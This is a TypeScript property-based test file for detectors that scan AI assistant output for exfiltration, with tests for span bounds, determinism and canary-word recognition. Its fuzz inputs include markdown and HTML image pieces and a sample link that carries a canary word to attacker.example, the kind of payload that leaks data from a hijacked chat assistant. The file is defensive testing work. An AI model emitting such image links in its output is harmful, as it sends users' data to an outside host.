import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { canaryWord, detectors, isCanaryWord } from "./index.ts";
import { checkStreamLaws } from "./testing/stream-laws.ts";

describe.each(detectors)("the detector $id", (detector) => {
  const inspect = (text: string) => detector.inspect({ stage: "output", role: "assistant", text });

  it("gives signals that lie in the text, in any text", () => {
    const word = canaryWord(5);
    const piece = fc.oneof(
      fc.string({ unit: "binary", maxLength: 20 }),
      fc.constantFrom("![](", "https://attacker.example/?d=", word, "`", "\n", "[a]: ", "<img src=", ")"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        const text = parts.join("");
        for (const { start, end, score, detector: id } of inspect(text)) {
          expect(id).toBe(detector.id);
          expect(start).toBeGreaterThanOrEqual(0);
          expect(end).toBeGreaterThan(start);
          expect(end).toBeLessThanOrEqual(text.length);
          expect(end - start).toBeLessThanOrEqual(detector.maxSpan);
          expect(score > 0 && score <= 1).toBe(true);
        }
      }),
    );
  });

  it("says the same of the same text", () => {
    const text = `![a](https://attacker.example/p?d=${canaryWord(9)})`;
    expect(inspect(text)).toEqual(inspect(text));
  });
});

it("the detector canary keeps the laws of streams", () => {
  const canary = detectors.find(({ id }) => id === "canary");
  if (canary === undefined) throw new Error("There is no canary detector.");
  const piece = fc.constantFrom(
    canaryWord(3),
    canaryWord(4).slice(0, 9),
    "word",
    " ",
    "x",
    canaryWord(5).toUpperCase(),
  );
  checkStreamLaws(canary, { texts: fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join("")) });
});

it("canary words are known as such at the door", () => {
  expect(isCanaryWord(canaryWord(77))).toBe(true);
  expect(isCanaryWord("internationalise")).toBe(false);
});
